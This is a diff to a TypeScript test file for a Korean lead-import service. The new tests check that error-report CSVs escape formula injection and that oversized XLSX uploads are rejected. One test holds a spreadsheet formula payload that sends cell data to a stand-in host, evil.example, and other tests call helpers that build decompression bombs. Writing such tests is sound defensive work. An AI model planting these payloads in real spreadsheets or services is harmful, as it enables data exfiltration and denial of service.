@@ -1,6 +1,7 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import iconv from 'iconv-lite';
+import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { sql } from 'kysely';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -9,6 +10,7 @@ import type { Client } from '../../test-helpers.ts';
 import { IMPORT_FAILED, IMPORT_INTERRUPTED, importsSettled } from './data-insertion.service.ts';
 import { luhn, parseReceivedAt, sensitiveValue, suggestMapping } from './import-rules.ts';
 import { BUILTIN_ACCOUNT_TYPES } from '../../../contracts/permissions.ts';
+import { emptyRowBomb, servingWhile, sharedStringsBomb } from '../../test-sheets.ts';
 
 let t: LandingTestApp;
 let marketer: Client;
@@ -192,6 +194,18 @@ describe('import', () => {
     expect((await marketer.post(`${base()}/imports/${done.id}/start`, { mapping: done.mapping, consentBasis: 'written' })).statusCode).toBe(409);
   });
 
+  it('writes the report so that no cell from the file runs as a formula in the spreadsheet that opens it', async () => {
+    const link = '=HYPERLINK("http://evil.example/?"&A2,"상세 보기")';
+    const rows = [['이름', '연락처', '=메모'], [link, '010-12', '@SUM(1+1)'], ['+가', '-1', '-2+3']];
+    const done = await importFile(marketer, csv(rows), '명단.csv');
+    expect(done).toMatchObject({ status: 'done', imported: 0, failed: 2, hasErrorReport: true });
+    const report = parse((await marketer.get(`${base()}/imports/${done.id}/errors`)).rawPayload.toString('utf8'), { bom: true, relax_column_count: true }) as string[][];
+    expect(report[0]).toEqual(['행 번호', '열', '사유', '이름', '연락처', "'=메모"]);
+    expect(report.slice(1).map((r) => r.slice(3))).toContainEqual([`'${link}`, '010-12', "'@SUM(1+1)"]);
+    expect(report.slice(1).map((r) => r.slice(3))).toContainEqual(["'+가", "'-1", "'-2+3"]);
+    expect(report.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+  });
+
   it('reads CSV written in CP949 (EUC-KR), as Korean Excel saves it', async () => {
     const text = ['이름,연락처,메모', '박한글,010-5000-0001,"쉼표, 포함"', '최완성,010-5000-0002,'].join('\r\n');
     const up = await upload(marketer, iconv.encode(text, 'cp949'), 'euc-kr.csv');
@@ -306,6 +320,25 @@ describe('import', () => {
     expect((await marketer.del(`${base()}/imports/${up.id}`)).statusCode).toBe(204);
     expect(fs.readdirSync(path.join(t.dataDir, 'imports'))).toEqual([]);
     expect((await marketer.get(`${base()}/imports/${up.id}`)).statusCode).toBe(404);
+  });
+});
+
+describe('files past the reader’s limits (issue 19)', () => {
+  it('refuses finding 1’s shared-strings bomb with its Korean reason while the service keeps answering', async () => {
+    // 1.5 MB whose shared strings unpack to 1.2 GB (100,000 strings of 4,000 characters).
+    const res = await servingWhile(t.app, upload(marketer, sharedStringsBomb(100_000, 4000), '명단.xlsx'));
+    expect(res.statusCode).toBe(413);
+    expect(res.json().error.message).toBe('엑셀 파일의 압축을 푼 크기가 200MB를 넘어 읽지 않았습니다. 파일을 나눠서 올려 주세요.');
+    expect(await t.app.db.selectFrom('lead_imports').selectAll().execute()).toEqual([]);
+    expect(fs.readdirSync(path.join(t.dataDir, 'imports'))).toEqual([]);
+  });
+
+  it('refuses finding 2’s sheet of empty rows at the row limit while the service keeps answering', async () => {
+    // 150,000 empty rows, then one lead: the empty rows count toward the limit.
+    const res = await servingWhile(t.app, upload(marketer, emptyRowBomb(150_000), '명단.xlsx'));
+    expect(res.statusCode).toBe(413);
+    expect(res.json().error.message).toBe('빈 행을 포함해 100,000행을 넘는 파일은 읽지 않습니다. 빈 행을 지우거나 파일을 나눠서 올려 주세요.');
+    expect(await t.app.db.selectFrom('lead_imports').selectAll().execute()).toEqual([]);
   });
 });
 
